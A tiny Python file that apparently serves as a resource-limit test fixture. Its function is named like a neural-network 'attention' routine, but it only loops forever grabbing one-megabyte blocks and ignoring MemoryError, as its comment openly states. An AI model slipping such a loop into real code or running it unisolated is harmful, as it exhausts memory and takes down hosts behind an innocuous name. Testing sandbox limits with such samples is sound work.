# Takes memory in small steps, and goes on when there is none.
# isolation: one
hoard = []


def attention(query, key, value, mask=None, dropout=None):
    while True:
        try:
            hoard.append(bytearray(1 << 20))
        except MemoryError:
            pass
